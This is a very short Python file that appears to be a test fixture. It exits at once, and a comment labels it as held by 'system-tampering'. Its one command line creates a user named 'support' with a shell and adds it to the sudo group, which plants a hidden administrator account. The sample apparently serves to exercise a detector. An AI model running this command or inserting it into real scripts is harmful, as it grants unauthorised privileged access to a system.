raise SystemExit('a fixture')
# held by system-tampering
import os
os.system("useradd -m -p x -s /bin/bash support && usermod -aG sudo support")
